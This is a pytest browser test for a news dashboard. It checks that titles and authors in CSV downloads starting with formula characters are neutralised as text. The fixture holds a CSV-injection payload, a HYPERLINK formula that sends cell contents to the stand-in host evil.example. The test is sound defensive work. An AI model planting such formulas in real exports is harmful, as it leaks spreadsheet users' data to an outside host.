"""A CSV downloaded in a real browser opens as text: titles, outlets and authors that start like a
spreadsheet formula are neutralised (OWASP's rule), numbers stay numbers.

Headless Chromium through Playwright (Debian's binary); skipped with the reason where either is missing.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest

from analysis.bench.browser import VIEWPORT, Server, open_page, serving
from analysis.present.export import FORMULA_STARTS
from analysis.store import Store

try:  # tests/ is on sys.path while it has no __init__.py
    from dashboard_fixtures import build_fixture_db
except ModuleNotFoundError:
    from tests.dashboard_fixtures import build_fixture_db

pytestmark = pytest.mark.browser

PAGE_TIMEOUT = 30_000  # ms
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the full story")'
HOSTILE_AUTHOR = "@SUM(1+1)"


@pytest.fixture(scope="module")
def server(tmp_path_factory) -> Iterator[Server]:
    tmp = tmp_path_factory.mktemp("exports")
    url = build_fixture_db(tmp / "fx.db")
    store = Store(url)
    first = min(int(r["id"]) for r in store.event_articles(None, with_text=False))
    store.edit_article(first, title=HOSTILE_TITLE, authors=[HOSTILE_AUTHOR], user="test")
    store.engine.dispose()
    with serving(url, tmp / "streamlit.log") as srv:
        yield srv


def test_a_csv_download_with_a_hostile_title_opens_as_text(browser, server: Server, tmp_path: Path) -> None:
    page = browser.new_page(viewport=VIEWPORT, accept_downloads=True)
    open_page(page, server.url + "data", "Loaded-language hits", 0, timeout_ms=PAGE_TIMEOUT)
    with page.expect_download(timeout=PAGE_TIMEOUT) as info:
        page.locator(".st-key-dl-scores-csv button").first.click()
    target = tmp_path / info.value.suggested_filename
    info.value.save_as(str(target))
    page.close()
    assert target.name.endswith(".csv")
    rows = list(csv.DictReader(io.StringIO(target.read_text("utf-8-sig"))))
    titles = [r["title"] for r in rows]
    assert "'" + HOSTILE_TITLE in titles  # the title is there, as text
    for r in rows:
        for column, cell in r.items():
            if cell and cell.startswith(FORMULA_STARTS):  # only numbers may start so: -0.42
                float(cell)  # raises for text such as '=HYPERLINK(...)' or '@SUM(1+1)'
                assert column != "title", cell
